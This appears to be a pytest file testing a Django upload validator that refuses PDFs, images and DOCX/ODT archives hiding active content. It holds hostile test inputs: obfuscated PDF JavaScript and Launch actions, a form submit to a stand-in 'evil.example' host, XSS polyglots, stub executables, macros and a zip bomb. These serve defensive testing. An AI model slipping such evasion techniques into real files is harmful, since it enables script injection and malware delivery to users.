"""Attachments are checked by structure, not only by their first bytes."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from service_requests.attachments import validate_attachment
from service_requests.pdf_structure import RefusedPDF, check_pdf

from .built_files import image, pdf, pdf_with_object_stream

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100

PDF = pdf()
CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _check(name: str, content: bytes) -> str:
    return validate_attachment(SimpleUploadedFile(name, content))


def test_a_well_formed_pdf_and_docx_are_accepted():
    assert _check("a.pdf", PDF) == "application/pdf"
    docx = _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"})
    assert _check("a.docx", docx).endswith("wordprocessingml.document")


def _refused(name: str, content: bytes) -> None:
    with pytest.raises(ValidationError) as error:
        _check(name, content)
    assert error.value.code == "content"


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>",  # the file
        b"%PDF-1.4\n" + b"x" * 500,  # no trailer, no %%EOF
        PDF.replace(b"%%EOF", b""),  # truncated
        PDF.replace(b"startxref", b"startxrfe").replace(b"trailer", b"trialer"),  # no xref info
        PDF.replace(b"endobj\n2 0", b"endobj\n<script>alert(1)</script>\n2 0"),
        b"%PDF-x\n" + PDF[9:],  # not a version
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",  # no startxref: unreadable
    ],
)
def test_pdfs_with_html_scripts_or_no_structure_are_refused(content):
    _refused("lēmums.pdf", content)


def test_a_pdf_that_opens_on_a_page_and_links_out_is_accepted():
    """Destinations and plain links are no active content."""
    opens_on_page = pdf(catalog=b"/OpenAction [2 0 R /Fit]")
    link = pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://latvija.gov.lv) >> >>")
    compressed = pdf_with_object_stream(b"<< /Type /Metadata /Note (plain) >>")
    for content in (opens_on_page, link, compressed):
        assert _check("lēmums.pdf", content) == "application/pdf"


# One file per way of hiding active content (issue 18 item 4); each was accepted by the byte
# scan, or names a kind the parser must refuse.
HIDDEN_ACTIVE_CONTENT = {
    "escaped JavaScript name": pdf(
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", catalog=b"/OpenAction 3 0 R"
    ),
    "escaped Launch name": pdf(b"<< /S /L#61unch /F (cmd.exe) >>"),
    "/JS then a newline": pdf(b"<< /S /JavaScript /JS\n(app.alert(1)) >>"),
    "JavaScript in a compressed object stream": pdf_with_object_stream(
        b"<< /S /JavaScript /JS (app.alert(1)) >>", catalog=b"/OpenAction 3 0 R"
    ),
    "JavaScript name tree in an object stream": pdf_with_object_stream(
        b"<< /JavaScript 4 0 R >>", b"<< /Names [(a) 5 0 R] >>", catalog=b"/Names 3 0 R"
    ),
    "embedded file": pdf(
        b"<< /Type /EmbeddedFile /Length 0 >>", catalog=b"/Names << /EmbeddedFiles 3 0 R >>"
    ),
    "rich media annotation": pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
    "XFA form": pdf(b"<< >>", catalog=b"/AcroForm << /Fields [] /XFA 3 0 R >>"),
    "open action that submits a form": pdf(
        catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"
    ),
    "open action by reference": pdf(
        b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", catalog=b"/OpenAction 3 0 R"
    ),
    "additional actions on a page": pdf(
        b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /ResetForm >> >> >>"
    ),
    "additional actions in an object stream": pdf_with_object_stream(
        b"<< /Type /Page /AA << /C << /S /Named /N /Print >> >> >>"
    ),
    "PDF/HTML polyglot with img onerror": pdf(
        b"<< /Title (x) >>\n% <img src=x onerror=alert(document.domain)>"
    ),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_ACTIVE_CONTENT))
def test_pdfs_with_hidden_active_content_are_refused(case):
    content = HIDDEN_ACTIVE_CONTENT[case]
    assert content.startswith(b"%PDF-1.") and content.rstrip().endswith(b"%%EOF")
    _refused("lēmums.pdf", content)


def test_the_parser_itself_refuses_an_action_no_byte_scan_can_see():
    """The JavaScript action lives only in the Flate-compressed object stream: its bytes appear
    nowhere in the file; pypdf decodes the stream and the walk finds it."""
    content = pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in content
    with pytest.raises(RefusedPDF, match="JavaScript"):
        check_pdf(content)


def test_pictures_are_accepted_whole():
    assert _check("foto.png", image("PNG")) == "image/png"
    assert _check("foto.jpg", image("JPEG")) == "image/jpeg"


_HTML_COMMENT = b"<img src=x onerror=alert(1)>"
COMMENT_WITH_HTML = b"\xff\xfe" + (len(_HTML_COMMENT) + 2).to_bytes(2, "big") + _HTML_COMMENT


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("foto.png", image("PNG") + b"<html><script>alert(1)</script></html>"),  # the file
        ("foto.png", image("PNG") + b"\x00"),  # anything after IEND
        ("foto.png", image("PNG")[:-12]),  # no IEND
        ("foto.png", image("PNG")[:40]),  # cut inside a chunk
        ("foto.jpg", image("JPEG") + b"<svg onload=alert(1)>"),  # after EOI
        ("foto.jpg", image("JPEG")[:-2]),  # no EOI
        # HTML inside a comment segment, the picture otherwise whole
        ("foto.jpg", image("JPEG")[:2] + COMMENT_WITH_HTML + image("JPEG")[2:]),
    ],
)
def test_pictures_with_anything_after_their_end_or_html_are_refused(name, content):
    _refused(name, content)


@pytest.mark.parametrize(
    "entries",
    [
        # the file: [Content_Types].xml plus an .exe renamed .docx
        {"[Content_Types].xml": CONTENT_TYPES, "payload.exe": EXE},
        # the declared main part is missing
        {"[Content_Types].xml": CONTENT_TYPES, "word/other.xml": b"<x/>"},
        # an executable hidden under an innocent name
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": b"<w:document/>",
            "word/media/image1.png": EXE,
        },
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": b"<w:document/>",
            "word/embeddings/tool.bin": ELF,
        },
        # macros
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100,
        },
    ],
)
def test_docx_without_its_main_part_or_with_executables_is_refused(entries):
    with pytest.raises(ValidationError) as error:
        _check("līgums.docx", _zip(entries))
    assert error.value.code == "content"


def test_odt_with_an_executable_is_refused():
    odt = _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<x/>",
            "Scripts/run.exe": EXE,
        }
    )
    with pytest.raises(ValidationError):
        _check("teksts.odt", odt)


def test_zip_bomb_is_refused_without_unpacking_it(settings):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<w:document/>" + b" " * (300 * 1024 * 1024))
    with pytest.raises(ValidationError):
        _check("liels.docx", buffer.getvalue())
